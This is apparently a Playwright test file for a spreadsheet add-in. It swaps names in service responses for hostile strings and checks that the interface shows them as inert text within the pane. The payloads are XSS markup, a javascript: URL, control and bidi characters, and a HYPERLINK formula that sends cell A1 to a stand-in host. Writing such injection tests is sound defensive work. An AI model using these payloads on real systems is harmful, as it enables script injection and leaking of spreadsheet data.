import type { BrowserContext, Frame } from 'playwright-core';
import { findAxeViolations } from '../support/axe-findings';
import type { WorkbenchPage } from '../support/workbench-page';
import { openWorkbench } from './fixtures/open-workbench';

const hostileNames = [
  '<img src=x onerror="top.hacked=1"><script>top.hacked=1</script>',
  '=HYPERLINK("https://other.example/"&A1,"NORTHGATE")',
  '\u202Eeman esrever\u202C "quoted" \u2066isolated',
  'bell \u0007 escape \u001b[31m zero width \u200b\u200d',
  'W'.repeat(10_000),
  'javascript:top.hacked=1',
];

let workbench: WorkbenchPage;
let pane: Frame;

/** Replaces every name and description in the service's responses with a hostile one. */
async function replaceNames(context: BrowserContext): Promise<void> {
  let replaced = 0;
  await context.route('**/v2/odata/**', async (route) => {
    const response = await route.fetch({ maxRetries: 2 });
    const body = (await response.text()).replace(
      /"(Name|ShortName|Description)":"(?:[^"\\]|\\.)*"/g,
      (_all, field) => `"${field}":${JSON.stringify(hostileNames[replaced++ % hostileNames.length])}`,
    );
    await route.fulfill({ response, body });
  });
}

beforeAll(async () => {
  workbench = await openWorkbench({ paneWidth: 320, prepare: replaceNames });
  pane = await workbench.connect();
});

/** Returns whether any name was run or became markup, and which elements are wider than the pane. */
async function findHarm(): Promise<unknown> {
  const hacked = await workbench.page.evaluate('window.hacked');
  const inPage = await pane.evaluate(() => ({
    elements: document.querySelectorAll('img[src=x], body script, a[href^="javascript:"]').length,
    wide: document.documentElement.scrollWidth > document.documentElement.clientWidth,
    tall: [...document.querySelectorAll<HTMLElement>('[role=tabpanel] button')].some(
      (element) => element.offsetHeight > 100,
    ),
  }));
  return { hacked, ...inPage };
}
const noHarm = { hacked: undefined, elements: 0, wide: false, tall: false };

test.each([
  ['Home', /^Process date/],
  ['Build', /^(Preview|Preview of the first rows)$/],
  ['Workbook', /^Data ranges in this workbook$/],
  ['Morning', /^Custodians$/],
  ['Settings', /^Service address$/],
])('%s shows hostile names as text, within the pane', async (screen, shown) => {
  await pane.getByRole('tab', { name: screen }).click();
  await pane.getByText(shown).first().waitFor();
  expect(await findHarm()).toEqual(noHarm);
  expect(await findAxeViolations(pane)).toEqual([]);
  await workbench.savePicture(`hostile-${screen.toLowerCase()}`);
});

test('the custodian picker shows them as text', async () => {
  await pane.getByRole('tab', { name: 'Build' }).click();
  await pane.getByRole('combobox', { name: 'Custodian', exact: true }).click();
  await pane.getByRole('option').first().waitFor();
  expect((await pane.getByRole('option').allInnerTexts()).join(' ')).toContain('<img src=x');
  expect(await findHarm()).toEqual(noHarm);
});

test('cells contain them as text, without calculation', async () => {
  const { values } = await workbench.calculate('A1', '=IDS.CUSTODIANS()', 'A1:C6');
  const names = values.slice(1).flatMap((row) => row.slice(1));
  expect(new Set(names).size).toBeGreaterThan(3);
  expect(names.filter((name) => !hostileNames.includes(String(name)))).toEqual([]);
  expect(await findHarm()).toEqual(noHarm);
});
